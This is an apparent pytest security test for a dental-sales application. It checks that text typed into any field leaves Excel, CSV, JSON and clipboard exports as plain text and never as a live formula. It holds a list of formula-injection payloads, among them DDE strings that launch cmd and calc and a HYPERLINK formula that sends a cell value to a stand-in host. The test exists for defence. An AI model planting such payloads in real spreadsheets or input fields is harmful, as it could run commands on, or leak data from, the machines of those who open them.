"""S5: a formula that somebody types into any field of text leaves the program as text, and comes back as it was."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from dentalsales.app import business
from dentalsales.blueprint.fields import Field
from dentalsales.blueprint.record import fields_of
from dentalsales.blueprint.sheet import Block, Row, Sheet, SheetColumn
from dentalsales.exchange import csv_out, excel_out, json_out
from dentalsales.exchange.open_source import open_source
from dentalsales.i18n import Text
from dentalsales.ui.clipboard_block import block_of, cells_of, written

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"价格")',
    "'=1+1",
    "{=DDE(\"cmd\";\"/C calc\";\"x\")}",
)  # fmt: skip
LIVE = "=+-@\t\r\n＝＋－＠"


def fields_of_text() -> dict[str, list[tuple[str, Field]]]:
    """Every field of every register that takes free text, those of its lines included."""
    found = {}
    for register in business().registers:
        fields = fields_of(register.record)
        own = [(name, field) for name, field in fields.items() if field.kind in ("text", "note")]
        for name, field in fields.items():
            if field.kind == "lines":
                child = fields_of(getattr(register.record, name).property.mapper.class_)
                own += [(f"{name}.{inner}", one) for inner, one in child.items() if one.kind in ("text", "note")]
        if own:
            found[register.name] = own
    return found


def sheet_of(name: str, fields: list[tuple[str, Field]]) -> Sheet:
    """A list in whose every field of text stands each payload once."""
    columns = tuple(SheetColumn(field_name, Text(field_name), field.kind) for field_name, field in fields)
    rows = tuple(Row((payload,) * len(columns)) for payload in PAYLOADS)
    return Sheet(name, Text(name), "", (Block(Text(name), columns, rows),))


def expected(width: int) -> list[str]:
    return [payload for payload in PAYLOADS for _column in range(width)]


def test_no_text_of_any_register_becomes_a_formula_in_another_program(
    tmp_path: Path, record_property: Callable[[str, object], None]
) -> None:
    live = changed = tried = 0
    for name, fields in fields_of_text().items():
        sheet, width = sheet_of(name, fields), len(fields)
        tried += width
        book, text, data = tmp_path / f"{name}.xlsx", tmp_path / f"{name}.csv", tmp_path / f"{name}.json"
        excel_out.write_sheet(sheet, book)
        csv_out.write_sheet(sheet, text)
        json_out.write_sheet(sheet, data)

        cells = [cell for page in load_workbook(book) for row in page.iter_rows() for cell in row]
        live += sum(cell.data_type == "f" for cell in cells)
        texts = [unescape(cell.value) for cell in cells if isinstance(cell.value, str)]  # \r stands as _x000D_
        changed += [one for one in texts if one in PAYLOADS] != expected(width)
        found = csv_out_cells(text)
        live += sum(cell[:1] in LIVE for cell in found if cell)
        _headings, *rows = [cells for _number, cells in open_source(text).rows()]
        changed += [cell for row in rows for cell in row] != expected(width)
        copied = block_of([[written(one, one, field) for _name, field in fields] for one in PAYLOADS])
        live += sum(cell[:1] in LIVE for line in as_pasted(copied) for cell in line if cell)
        changed += [cell for row in cells_of(copied) for cell in row] != [
            payload.replace("\r", "\n")
            for payload in expected(width)  # a cell knows one kind of line end
        ]
        changed += payloads_in(json.loads(data.read_text("utf-8"))) != expected(width)
    figure = f"S5: fields {tried}, payloads {len(PAYLOADS)}, live formulas {live}, changed on the way {changed}"
    print(figure)
    record_property("figure", figure)
    assert tried > 50 and live == 0 and changed == 0


def csv_out_cells(path: Path) -> list[str]:
    """The cells of a CSV file as a spreadsheet takes them."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def as_pasted(block: str) -> list[list[str]]:
    """The cells of a copied block as a spreadsheet takes them."""
    return list(csv.reader(io.StringIO(block, newline=""), dialect="excel-tab"))


def payloads_in(data: object) -> list[str]:
    """The payloads in a JSON document, in order."""
    if isinstance(data, dict):
        return [one for value in data.values() for one in payloads_in(value)]
    if isinstance(data, list):
        return [one for value in data for one in payloads_in(value)]
    return [data] if data in PAYLOADS else []
